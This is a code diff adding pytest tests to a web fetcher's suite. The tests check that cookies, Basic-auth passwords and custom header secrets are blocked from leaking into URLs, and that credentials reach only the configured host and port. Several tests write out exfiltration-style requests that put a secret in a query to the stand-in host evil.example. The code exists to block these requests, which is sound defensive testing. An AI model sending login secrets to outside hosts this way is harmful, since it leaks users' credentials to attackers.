@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import base64
 from pathlib import Path
 from typing import Any
 
@@ -335,6 +336,43 @@ async def test_a_login_does_not_leave_in_a_url(miniweb: MiniWeb) -> None:
     fetcher = miniweb.fetcher(login="wiki.example: Authorization: Bearer t0ken-t0ken")
     with pytest.raises(LeakBlocked):
         await fetcher.get("https://evil.example/?t=t0ken-t0ken")
+
+
+@pytest.mark.parametrize(
+    ("login", "secret"),
+    [
+        ("Cookie: sid=s3cret-session; theme=dark", "s3cret-session"),
+        ('Cookie: a=1; sid="s3cret-session"', "s3cret-session"),
+        ("Authorization: Basic " + base64.b64encode(b"alice:s3cret-password").decode(), "s3cret-password"),
+        ("X-Key: s3cret-value", "s3cret-value"),
+    ],
+)
+async def test_no_part_of_a_login_leaves_in_a_url(miniweb: MiniWeb, login: str, secret: str) -> None:
+    fetcher = miniweb.fetcher(login=f"wiki.example: {login}")
+    with pytest.raises(LeakBlocked):
+        await fetcher.get(f"https://evil.example/?x={secret}")
+
+
+@pytest.mark.parametrize(
+    ("configured", "port", "sent"),
+    [
+        ("wiki.example", 443, True),
+        ("wiki.example", 8443, False),
+        ("wiki.example:8443", 8443, True),
+        ("wiki.example:8443", 443, False),
+        ("*.example", 443, True),
+        ("*.example", 8443, False),
+        ("*.example:8443", 8443, True),
+    ],
+)
+async def test_a_login_goes_to_the_configured_port_only(
+    miniweb: MiniWeb, configured: str, port: int, sent: bool
+) -> None:
+    site = miniweb.site("wiki.example")
+    site.page("/", "hello")
+    fetcher = miniweb.fetcher(login=f"{configured}: X-Key: s3cret-value")
+    assert (await fetcher.get(f"https://wiki.example:{port}/")).authenticated == sent
+    assert [("x-key" in request.headers) for request in site.asked("/")] == [sent]
 
 
 async def test_a_login_may_cover_subdomains(miniweb: MiniWeb) -> None:
